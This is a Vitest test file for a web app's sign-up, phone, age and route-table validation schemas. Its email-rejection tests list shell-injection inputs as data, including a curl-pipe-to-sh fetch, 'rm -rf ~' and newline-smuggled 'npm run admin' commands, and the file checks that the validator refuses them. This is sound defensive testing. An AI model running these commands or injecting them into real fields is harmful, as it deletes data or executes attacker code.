import { afterEach, describe, expect, it, vi } from 'vitest';
import { fieldErrors } from '#shared/api/errors.js';
import { openApiDocument } from '#shared/api/openapi.js';
import { fillPath, routeList } from '#shared/api/routes/index.js';
import { route, routeListOf } from '#shared/api/routes/define.js';
import * as z from 'zod';
import { changePasswordRequest, email, notifySettingsInput, passwordResetConfirm, referralCode, referralRequest, signupRequest } from '#shared/domain/user.js';
import { texts } from '#shared/texts.js';
import { PHONE_CHARACTERS_MESSAGE, PHONE_CODE_BESIDE_MESSAGE, PHONE_DIGITS_MESSAGE } from '#shared/domain/fields.js';
import { candidateProfileInput, UNDER_AGE } from '#shared/domain/candidate.js';
import { serviceProviderInput } from '#shared/domain/classified.js';
import { candidateBody } from '../sampleData.js';

const signup = { signupSecret: 'f'.repeat(64), userReferralId: 'abc-123-def', firstName: 'Asha', lastName: 'Patel', userEmail: 'Asha@Example.org', userPhoneCountryCode: '+1', userPhoneNumber: '416 555 0101', userPass: 'secret' };

describe('sign-up schema', () => {
  it("needs the sign-up's browser secret: random-looking, 32 to 128 characters", () => {
    const { signupSecret: _, ...withoutSecret } = signup;
    expect(signupRequest.safeParse(withoutSecret).success).toBe(false);
    expect(signupRequest.safeParse({ ...signup, signupSecret: 'short' }).success).toBe(false);
    expect(signupRequest.safeParse({ ...signup, signupSecret: 'a b'.repeat(20) }).success).toBe(false);
  });

  it('accepts a complete form and lower-cases the e-mail', () => {
    expect(signupRequest.parse(signup).userEmail).toBe('asha@example.org');
  });
  it.each(['asha', 'asha@', '@example.org', 'a b@example.org', 'asha@example'])('refuses %s with the spec text', (userEmail) => {
    const r = signupRequest.safeParse({ ...signup, userEmail });
    expect(r.success).toBe(false);
    expect(fieldErrors(r.error!.issues).userEmail).toEqual([texts.emailInvalid]);
  });
  it('asks for 6 characters with the spec text, and accepts exactly 6', () => {
    expect(fieldErrors(signupRequest.safeParse({ ...signup, userPass: '12345' }).error!.issues).userPass).toEqual([texts.passwordRecommendation]);
    expect(signupRequest.safeParse({ ...signup, userPass: '123456' }).success).toBe(true);
  });
  it.each([
    '$({curl,-s,x.example/y}|sh)@evil.com',
    '`id`@evil.com',
    'a;rm -rf ~@evil.com',
    'a|b@evil.com',
    'a&b@evil.com',
    "a'b@evil.com",
    'a"b@evil.com',
    'a<b>@evil.com',
    'a\\b@evil.com',
    'a!b@evil.com',
    'a#b@evil.com',
    'a*b@evil.com',
    'a=b@evil.com',
    'a?b@evil.com',
    'a~b@evil.com',
    'a{b}@evil.com',
    'asha@evil.com;id',
    'asha@$(id).com',
    'asha@-evil.com',
    'asha@evil-.com',
    'asha@evil..com',
    'asha@evil.c',
    'asha@evil.c0m',
    '.asha@example.org',
    'asha.@example.org',
    'as..ha@example.org',
    'asha\n@example.org',
    `${'a'.repeat(65)}@example.org`,
    `asha@${'a'.repeat(64)}.org`,
    'asha@example.org\nnpm run admin',
  ])('refuses the shell-laden or malformed address %s with the spec text', (userEmail) => {
    const r = signupRequest.safeParse({ ...signup, userEmail });
    expect(r.success).toBe(false);
    expect(fieldErrors(r.error!.issues).userEmail).toEqual([texts.emailInvalid]);
  });
  it.each(['asha.patel+rishta@example.org', 'A_B%c-d@mail.example.co.uk', 'x@a-b.io', '1@2.example.in'])('accepts %s', (address) => {
    expect(email.safeParse(address).success).toBe(true);
  });
  it('the referral request uses the same grammar', () => {
    const r = referralRequest.safeParse({ requesterFirstName: 'A', requesterLastName: 'B', requesterEmailId: '$(id)@evil.com', requesterPhoneNumber: '4165550100' });
    expect(fieldErrors(r.error!.issues).requesterEmailId).toEqual([texts.emailInvalid]);
  });
  it('names refuse line breaks and other control characters (they are quoted in the volunteers\' mail)', () => {
    expect(signupRequest.safeParse({ ...signup, firstName: 'Asha\nnpm run admin -- referral x@y.org' }).success).toBe(false);
    expect(referralRequest.safeParse({ requesterFirstName: 'A\u0007', requesterLastName: 'B', requesterEmailId: 'a@example.org', requesterPhoneNumber: '4165550100' }).success).toBe(false);
  });
  it('passwords may not begin or end with a space (Cognito refuses them)', () => {
    for (const userPass of [' secret123', 'secret123 ', '\tsecret123']) {
      const errors = fieldErrors(signupRequest.safeParse({ ...signup, userPass }).error!.issues);
      expect(errors.userPass).toEqual([texts.passwordSpaces]);
      expect(changePasswordRequest.safeParse({ currentPassword: 'old-one', userPass }).success).toBe(false);
      expect(passwordResetConfirm.safeParse({ userEmail: 'a@example.org', code: '123456', userPass }).success).toBe(false);
    }
    expect(signupRequest.safeParse({ ...signup, userPass: 'with inner space' }).success).toBe(true);
  });
  it('requires first and last name, and refuses unknown fields', () => {
    const r = signupRequest.safeParse({ ...signup, firstName: '  ', lastName: undefined, isAdmin: true });
    const errors = fieldErrors(r.error!.issues);
    expect(errors.firstName).toEqual(['First Name is required']);
    expect(errors.lastName).toBeDefined();
    expect(errors._).toBeDefined();
  });
  it('refuses over-long names', () => {
    expect(signupRequest.safeParse({ ...signup, firstName: 'x'.repeat(51) }).success).toBe(false);
  });
});

describe('phone numbers', () => {
  it.each(['416 555 0101', '416.555.0101', '(416) 555-0101', '98765 43210'])('accepts %s as people write it', (userPhoneNumber) => {
    expect(signupRequest.safeParse({ ...signup, userPhoneNumber }).success).toBe(true);
  });
  it.each([['----', PHONE_DIGITS_MESSAGE], ['12', PHONE_DIGITS_MESSAGE], ['1234567890123456', PHONE_DIGITS_MESSAGE], ['416 555 01O1', PHONE_CHARACTERS_MESSAGE], ['416\n555', PHONE_CHARACTERS_MESSAGE], ['+1 416 555 0101', PHONE_CODE_BESIDE_MESSAGE]])(
    'refuses %j saying why', (userPhoneNumber, message) => {
      expect(fieldErrors(signupRequest.safeParse({ ...signup, userPhoneNumber }).error!.issues).userPhoneNumber).toEqual([message]);
    },
  );
  it('a number with no Country Code box beside it (the referral request) may start with its code', () => {
    const request = { requesterFirstName: 'Asha', requesterLastName: 'Patel', requesterEmailId: 'asha@example.org', requesterPhoneNumber: '+1 416 555 0101' };
    expect(referralRequest.safeParse(request).success).toBe(true);
  });
  it('a country code typed without its plus is stored with it', () => {
    expect(signupRequest.parse({ ...signup, userPhoneCountryCode: '91' }).userPhoneCountryCode).toBe('+91');
  });
  it('the contact phone says it is missing only when it is, and why a written one is refused', () => {
    const contact = (contactPhoneNumber: string) =>
      fieldErrors(candidateProfileInput.safeParse({ contactPhoneNumber }).error!.issues).contactPhoneNumber;
    expect(contact('')).toEqual(['Please enter contact person phone #']);
    expect(contact('514 555 0199')).toBeUndefined();
    expect(contact('+1 514 555 0199')).toEqual([PHONE_CODE_BESIDE_MESSAGE]);
    expect(contact('ext. 12')).toEqual([PHONE_CHARACTERS_MESSAGE]);
  });
});

describe('the candidate is 18 or older', () => {
  afterEach(() => vi.useRealTimers());
  it('born in the youngest year offered, only up to this month', () => {
    vi.useFakeTimers({ now: new Date('2026-11-30T12:00:00Z'), toFake: ['Date'] });
    const born = (dobMonth: number) => candidateProfileInput.safeParse(candidateBody({ dobYear: 2008, dobMonth }));
    expect(born(11).success).toBe(true);
    expect(fieldErrors(born(12).error!.issues).dobMonth).toEqual([UNDER_AGE]);
    expect(candidateProfileInput.safeParse(candidateBody({ dobYear: 2007, dobMonth: 12 })).success).toBe(true);
  });
});

describe("a listing's website", () => {
  it('says a space is the mistake where the address starts right', () => {
    const web = (serviceProviderWebsite: string) => fieldErrors(serviceProviderInput.safeParse({ serviceProviderWebsite }).error!.issues).serviceProviderWebsite;
    expect(web('https://example.org/a b')).toEqual(['Website must not contain spaces']);
    expect(web('example.org')).toEqual(['Website must start with http:// or https://']);
    expect(web('https://example.org/a')).toBeUndefined();
  });
});

describe('free text over several lines', () => {
  const about = (aboutFamily: string) => fieldErrors(candidateProfileInput.safeParse({ aboutFamily }).error!.issues).aboutFamily;
  it('takes line breaks and tabs, as text pasted from a document has them', () => {
    expect(about('We are a family of four.\n\tFather: engineer\r\n\tMother: teacher')).toBeUndefined();
  });
  it('refuses other control characters, in plain words', () => {
    expect(about('bell\u0007')).toEqual(['About our family must not contain invisible control characters']);
  });
});

describe('other schemas', () => {
  it('referral codes are case-insensitive and refuse odd characters', () => {
    expect(referralCode.parse(' abcd2345 ')).toBe('ABCD2345');
    expect(referralCode.safeParse('abc$1234').success).toBe(false);
  });
  it('notification settings need all ten flags as booleans; the two frequencies are optional and checked per topic', () => {
    const all = Object.fromEntries(Object.keys(notifySettingsInput.shape).filter((k) => k.endsWith('Flag')).map((k) => [k, true]));
    expect(Object.keys(all)).toHaveLength(10);
    expect(notifySettingsInput.safeParse(all).success).toBe(true);
    expect(notifySettingsInput.safeParse({ ...all, emailSubscribeToNewsletterFlag: 'yes' }).success).toBe(false);
    expect(notifySettingsInput.safeParse({ ...all, proposalsFrequency: 'weekly', matchesFrequency: 'daily' }).success).toBe(true);
    // Matches have no 'immediately'; an unknown value is refused with the field's message.
    const wrong = notifySettingsInput.safeParse({ ...all, matchesFrequency: 'immediately' });
    expect(wrong.success).toBe(false);
    expect(wrong.error?.issues[0]?.message).toBe('Choose how often new matched profiles are mailed');
  });
  it('change password needs the current password', () => {
    expect(changePasswordRequest.safeParse({ currentPassword: '', userPass: 'secret1' }).success).toBe(false);
  });
});

describe('route table', () => {
  it('every path is /api/{group}/… and unique per method', () => {
    const seen = new Set<string>();
    for (const r of routeList) {
      expect(r.path.startsWith(`/api/${r.group}/`)).toBe(true);
      const key = `${r.method} ${r.path}`;
      expect(seen.has(key)).toBe(false);
      seen.add(key);
    }
  });
  it('path params in the path match the params schema', () => {
    for (const r of routeList) {
      const inPath = [...r.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]).sort();
      expect(inPath, r.operation).toEqual(Object.keys(r.params.shape).sort());
      for (const owned of r.owned ?? []) expect(inPath).toContain(owned);
    }
  });
  it('public routes that write or look up are throttled', () => {
    for (const r of routeList.filter((x) => x.auth === 'public')) expect(r.throttle, r.operation).toBeDefined();
  });
  it('builds a route\'s schemas on first use, each once, and not when the table is listed', () => {
    const built = { params: 0, body: 0, response: 0 };
    const table = {
      op: route({
        group: 'usermgmt', method: 'POST', path: '/api/usermgmt/op/{id}', auth: 'public', summary: 'a test route',
        params: () => (built.params++, z.strictObject({ id: z.string() })),
        body: () => (built.body++, z.strictObject({ n: z.number() })),
        response: () => (built.response++, z.object({ ok: z.boolean() })),
      }),
    };
    const [listed] = routeListOf(table);
    expect(listed).toMatchObject({ operation: 'op', method: 'POST', path: '/api/usermgmt/op/{id}' });
    expect(built).toEqual({ params: 0, body: 0, response: 0 });
    expect(listed!.params.safeParse({ id: 'a' }).success).toBe(true);
    expect(table.op.params.safeParse({}).success).toBe(false);
    expect(built).toEqual({ params: 1, body: 0, response: 0 });
    expect(listed!.response.parse({ ok: true, extra: 1 })).toEqual({ ok: true });
    expect(built).toEqual({ params: 1, body: 0, response: 1 });
  });
  it('fills paths', () => {
    expect(fillPath('/api/usermgmt/getUserProfile/{userProfileId}', { userProfileId: 'a/b' })).toBe('/api/usermgmt/getUserProfile/a%2Fb');
    expect(() => fillPath('/api/x/{y}', {})).toThrow();
  });
  it('the OpenAPI document lists every operation with its security', () => {
    const doc = openApiDocument() as { paths: Record<string, Record<string, { operationId: string; security: unknown[] }>> };
    const ops = Object.values(doc.paths).flatMap((p) => Object.values(p));
    expect(ops.map((o) => o.operationId).sort()).toEqual(routeList.map((r) => r.operation).sort());
    for (const r of routeList) {
      const op = doc.paths[r.path]?.[r.method.toLowerCase()];
      expect(op?.security.length, r.operation).toBe(r.auth === 'public' ? 0 : 1);
    }
  });
});
